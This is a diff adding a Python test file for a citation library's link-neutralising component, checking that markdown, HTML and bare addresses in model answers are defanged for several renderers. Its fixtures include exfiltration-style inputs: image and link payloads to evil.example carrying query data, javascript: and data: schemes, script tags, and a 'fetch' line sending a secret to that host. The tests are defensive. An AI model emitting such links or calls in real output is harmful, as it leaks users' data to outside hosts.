@@ -1,0 +1,290 @@
+"""Links: where they are to be taken apart, no page makes one, however it reads the text and however that was cut.
+
+The judges are renderers that pages use: GitHub's cmark, markdown-it with and without its links of bare addresses, and a
+browser's reading of raw HTML.
+"""
+
+import re
+from collections.abc import Callable, Iterator
+from html.parser import HTMLParser
+from itertools import pairwise
+from random import Random
+
+import cmarkgfm
+import pytest
+from cmarkgfm.cmark import Options as CMark
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from citation.answer import Answer
+from citation.attribute import Decision, Status, Support
+from citation.evidence import Evidence
+from citation.links import LinkPolicy, Unlinker, Unlinkers
+from citation.options import Options
+from citation.response import Response
+
+KEPT = "https://example.org/a_(b)"
+
+APART = {
+    "a link": ("See [the report](https://evil.example/?q=a).", "See [the report] (https[:]//evil[.]example/?q=a)."),
+    "an image": ("![x](https://evil.example/x.png)", "! [x] (https[:]//evil[.]example/x[.]png)"),
+    "a link to elsewhere on the page's own server": ("[log out](/logout)", "[log out] (/logout)"),
+    "a definition": ("[a]: https://evil.example 'x'", "[a] : https[:]//evil[.]example 'x'"),
+    "a link that would be left as a citation": ("[1](https://evil.example/)", "1 (https[:]//evil[.]example/)"),
+    "a definition that would make a link of our marker": ("[1]: //evil.example", "1 : //evil[.]example"),
+    "an address in angle brackets": ("<https://evil.example/>", "< https[:]//evil[.]example/>"),
+    "a mail address": ("me@evil.example <me@evil.example>", "me[@]evil.example < me[@]evil.example>"),
+    "a bare address": ("HTTPS://evil.example/x", "HTTPS[:]//evil[.]example/x"),
+    "a name with www": ("www.evil.example", "www[.]evil[.]example"),
+    "a name with a path": ("evil.com/x", "evil[.]com/x"),
+    "a name below a name": ("what-you-asked.evil.com", "what-you-asked[.]evil[.]com"),
+    "an element": ('<img src="//evil.example/x">', '< img src="//evil[.]example/x">'),
+    "a comment": ("<!-- x -->", "< !-- x -->"),
+    "an element of script": ("<script>x", "< script>x"),
+    "a scheme": ("javascript:alert(1)", "javascript[:]alert(1)"),
+    "data": ("data:text/html;base64,x", "data[:]text/html;base64,x"),
+    "character references": ("https&colon;&#47;&#x2F;evil.example/x", "https& colon;& #47;& #x2F;evil[.]example/x"),
+    "escaped slashes": (r"https:\/\/evil.example/x", r"https[:]\/\/evil[.]example/x"),
+    "TeX": (r"$\href{https://evil.example}{x}$", r"$\ href{https[:]//evil[.]example}{x}$"),
+    "a line break in the scheme": ("https:\n//evil.example/", "https: \n//evil[.]example/"),
+}
+UNTOUCHED = [
+    "Plain text, e.g. U.S.A., 3.5 %, v1.2.3, Dr. No; and/or (see above): done!",
+    "README.md, main.rs, example.com and report.pdf are names.",
+    "H<sub>2</sub>O<br>and <b>bold</b>, a < b, List<String>, AT&T &amp; &lt;tag&gt;",
+    "the data: 5; note: x; 12:30; C: drive; 1:2; Re: you",
+    "| a | b |\n|---|---|\n| c [1] | d |\n",
+    "天是蓝的。草是绿的！(真的)[1]",
+    "@property, #tag, $5, ~x~, `code`, arr[1], [x], [ ] task, [x][y]",
+    "",
+]
+
+
+def apart(text: str, *kept: str) -> str:
+    unlinker = Unlinker(kept)
+    return unlinker.feed(text) + unlinker.flush()
+
+
+@pytest.mark.parametrize("case", APART)
+def test_what_makes_a_link_is_taken_apart_and_all_of_it_stays_legible(case: str) -> None:
+    text, expected = APART[case]
+    assert apart(text) == expected
+
+
+@pytest.mark.parametrize("text", UNTOUCHED)
+def test_text_without_links_stays_as_it_is(text: str) -> None:
+    assert apart(text) == text
+
+
+CODE = {
+    "names with dots": ("request.user.id = os.path.is(x)", "request.user.id = os.path.is(x)"),
+    "an index that is called": ("handlers[0](event)", "handlers[0] (event)"),
+    "a typed index": ("d[k]: int = 5", "d[k] : int = 5"),
+    "an address, which a diagram may load": ('A["<img src=https://e.x/>"]', 'A["< img src=https[:]//e.x/>"]'),
+}
+
+
+@pytest.mark.parametrize("case", CODE)
+def test_code_keeps_its_dots_and_brackets(case: str) -> None:
+    text, expected = CODE[case]
+    unlinker = Unlinker()
+    assert unlinker.feed(text, code=True) + unlinker.flush() == expected
+
+
+KEEPS = {
+    "as a link": f"See [the report]({KEPT}).",
+    "bare": f"See {KEPT}, or ({KEPT}).",
+    "in angle brackets": f"See <{KEPT}>.",
+    "at the end": f"See {KEPT}",
+}
+LOSES = {
+    "as an image, which loads by itself": f"![x]({KEPT})",
+    "with more behind it": f"{KEPT}?q=x",
+    "with a name behind it": f"{KEPT}@evil.example",
+    "with data in punctuation": f"{KEPT}.!.!.",
+    "in an address": f"https://evil.example/?u={KEPT}&q=x",
+    "with a title": f"[x]({KEPT} 'title')",
+    "under a definition": f"[1]: {KEPT} 'x'",
+    "in another spelling": KEPT.upper(),
+    "in an element": f'<a href="{KEPT}">x</a>',
+    "as a citation that is not ours": f"[1]({KEPT})",
+}
+
+
+@pytest.mark.parametrize("case", KEEPS)
+def test_an_address_that_is_kept_stays_a_link(case: str) -> None:
+    assert apart(KEEPS[case], KEPT) == KEEPS[case]
+    assert apart(KEEPS[case]) != KEEPS[case]
+
+
+@pytest.mark.parametrize("case", LOSES)
+def test_an_address_that_is_kept_carries_nothing_else(case: str) -> None:
+    assert apart(LOSES[case], KEPT) != LOSES[case]
+
+
+def test_of_two_addresses_the_longer_is_read() -> None:
+    longer = f"{KEPT}/more"
+    assert apart(f"{longer} {KEPT}", KEPT, longer) == f"{longer} {KEPT}"
+
+
+RENDERERS: dict[str, Callable[[str], str]] = {
+    "GitHub's cmark": lambda text: str(cmarkgfm.github_flavored_markdown_to_html(text, CMark.CMARK_OPT_UNSAFE)),
+    "markdown-it with bare addresses": MarkdownIt("gfm-like", {"linkify": True, "html": True}).render,
+    "markdown-it": MarkdownIt("commonmark").render,
+    "a browser": lambda text: text,
+}
+HARMLESS = {"class", "align", "start", "type", "disabled", "checked", "lang"}  # what renderers write themselves
+# A registered name alone, of which nobody can make up a part
+NAME_ALONE = re.compile(r"(?:http:)?//(?:www|[^./?#:@]+\.[^./?#:@]+)")
+
+
+class Links(HTMLParser):
+    """Whatever in HTML may lead or load."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        for name, value in attrs:
+            of_renderer = name in HARMLESS or (name == "style" and (value or "").startswith("text-align"))
+            if not of_renderer and not (name == "href" and NAME_ALONE.fullmatch(value or "")):
+                self.found.append(f"{tag} {name}={value}")
+        if tag in {"script", "style", "iframe", "base", "object", "embed"}:
+            self.found.append(tag)
+
+
+def links(text: str) -> dict[str, list[str]]:
+    """What each renderer makes links of."""
+    found = {}
+    for name, render in RENDERERS.items():
+        parser = Links()
+        parser.feed(render(text))
+        parser.close()
+        found[name] = parser.found
+    return found
+
+
+NONE: dict[str, list[str]] = {name: [] for name in RENDERERS}
+PIECES = st.sampled_from(
+    [
+        *("https://", "http:", "//", "evil.example", "/x?q=secret", "www.", "data.", "evil.com", "[", "]", "(", ")"),
+        *("<", ">", "!", "a", "img src=", "a href=", '"', "'", "`", "```", "\n", "\n\n", " ", "    ", "\\", "&colon;"),
+        *("&#47;", "&sol;", "&period;", "&#58;", "*", "**", "_", "~", "1", "[1]", "[a]:", "[a]", "^", "|", "---", "$"),
+        *("$$", "ftp://", "mailto:", "x@", "javascript:", "data:", "svg onload=", "<!--", "-->", "<?", "b>", "br>"),
+        *("</a>", "</", "#", "?q=1", ":", ".", "/", "co.uk", "\t", "- ", "> ", "1. ", "<div>", "<script>", "www"),
+        *("com", "😀", "例え。", "ｅ", "\u200b", "\u00ad", "xn--", "[[", "]]", "%20", "title", ' "t"', "&", "amp;"),
+        *("lt;", "&lt;", "HTTPS://", "href", "{", "}", "\\href{", "link", "é.com/x"),
+    ]
+)
+hostile = st.lists(PIECES, max_size=14).map("".join)
+places = st.lists(st.integers(0, 200), max_size=4)
+
+
+def pieces(text: str, cuts: list[int]) -> list[str]:
+    ends = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
+    return [text[start:end] for start, end in pairwise(ends)]
+
+
+@given(hostile, places)
+@settings(max_examples=400)
+def test_no_renderer_finds_a_link_however_the_text_is_cut(text: str, cuts: list[int]) -> None:
+    assert links(apart(text)) == NONE
+    for parts in (list(text), pieces(text, cuts)):
+        unlinker = Unlinker()
+        assert links("".join(unlinker.feed(part) + unlinker.flush() for part in parts)) == NONE, parts
+        beside = Unlinkers()
+        assert links("".join(beside.passing(0, "reasoning", part) for part in parts)) == NONE, parts
+
+
+@given(hostile, places)
+@settings(max_examples=300)
+def test_how_it_arrives_changes_nothing_and_nothing_is_lost(text: str, cuts: list[int]) -> None:
+    for kept in ((), ("https://evil.example/x?q=secret",)):
+        whole = apart(text, *kept)
+        for parts in (list(text), pieces(text, cuts)):
+            unlinker = Unlinker(kept)
+            assert "".join(map(unlinker.feed, parts)) + unlinker.flush() == whole
+    shown = iter(apart(text))
+    assert all(character in shown for character in text if character not in "[]")  # in this order, others between
+
+
+EVIDENCE = (
+    Evidence(1, "The bridge was opened in 1932.", "e1", url="https://ex.org/bridge", title="Bridge"),
+    Evidence(2, "It is red.", "e2"),
+)
+SUPPORTED = Decision((Support(1, 0.9, Status.ADDED, 0, 9),))
+ANSWER = (
+    "The bridge was opened in 1932. See [the report](https://evil.example/?q=what+you+asked), or\n"
+    "![x](https://evil.example/x.png) it is red [1]. It is at https://ex.org/bridge. Also www.evil.com/x, 例え.jp/x。"
+    "\n\n"
+    "[a]: https://evil.example\n\n```js\nfetch('https://evil.example/' + secret)\n```\n\n"
+    "- <img src=//evil.example/x> is gone. And `https://evil.example` too, [as said](https://ex.org/bridge).\n"
+)
+
+
+def answered(parts: list[str], policy: LinkPolicy, options: Options) -> tuple[str, Response]:
+    response = Response(EVIDENCE, options, links=policy)
+    answer = response.answer(0)
+    assert isinstance(answer, Answer)
+    drafts: Iterator[str] = (answer.cite(draft, SUPPORTED) for part in parts for draft in answer.feed(part))
+    return "".join(drafts) + "".join(answer.cite(draft, SUPPORTED) for draft in answer.flush()), response
+
+
+@pytest.mark.parametrize("policy", ["evidence", "none"])
+@pytest.mark.parametrize("marker", ["number", "link", "none"])
+def test_an_answer_is_the_same_however_it_arrives_and_spans_index_it(policy: LinkPolicy, marker: str) -> None:
+    options = Options(marker=marker)  # type: ignore[arg-type]
+    whole, response = answered([ANSWER], policy, options)
+    rng = Random(7)
+    cut = pieces(ANSWER, [rng.randrange(len(ANSWER)) for _ in range(40)])
+    for release in ("sentence", "live"):
+        for parts in (cut, list(ANSWER)):
+            again, _ = answered(parts, policy, Options(marker=marker, release=release))  # type: ignore[arg-type]
+            assert again == whole, (release, len(parts))
+    spans = [span for reference in response.references.cited() for span in reference.spans]
+    assert len(spans) >= 5
+    for span in spans:
+        assert whole[span.start : span.end].strip() == whole[span.start : span.end] != ""
+        assert marker == "none" or whole[slice(*span.marker)].startswith("[")
+
+
+@pytest.mark.parametrize(
+    ("policy", "left"),
+    [("none", set[str]()), ("evidence", {"a href=https://ex.org/bridge"})],
+)
+def test_of_an_answer_only_the_links_of_the_policy_are_left(policy: LinkPolicy, left: set[str]) -> None:
+    text, _ = answered(list(ANSWER), policy, Options())
+    assert {link for found in links(text).values() for link in found} == left
+
+
+def test_our_own_markers_and_list_stay_links_under_every_policy() -> None:
+    response = Response(EVIDENCE, Options(marker="link", references_in_text=True), links="none")
+    answer = response.answer(0)
+    text = "".join(answer.cite(draft, SUPPORTED) for draft in answer.feed("It opened in 1932.\n") + answer.flush())
+    assert text == "It opened in 1932. [[1]](https://ex.org/bridge)\n"
+    assert answer.reference_list().endswith("- [1] [Bridge](https://ex.org/bridge)\n")
+
+
+def test_what_is_judged_is_what_the_model_wrote() -> None:
+    response = Response(EVIDENCE, Options(), links="none")
+    (draft,) = response.answer(0).feed("It opened at https://ex.org/x in 1932.\n")
+    assert draft.claim
+    assert draft.claim.text == "It opened at https://ex.org/x in 1932."
+    assert draft.text == "It opened at https[:]//ex[.]org/x in 1932.\n"
+
+
+def test_allowed_links_are_left_alone() -> None:
+    assert Response(EVIDENCE, Options()).unlinker() is None
+    assert answered([ANSWER], "allow", Options(marker="none"))[0] == ANSWER.replace(" [1].", ".")
+
+
+@pytest.mark.parametrize(
+    "text", ["a" * 200_000, "." * 50_000, "[" * 50_000, "](" * 30_000, "a." * 30_000, "&a" * 30_000]
+)
+def test_degenerate_text_costs_no_more_than_its_length(text: str) -> None:
+    unlinker = Unlinker()
+    for start in range(0, len(text), 2000):  # as much as a sentence holds
+        unlinker.feed(text[start : start + 2000])
+        unlinker.flush()
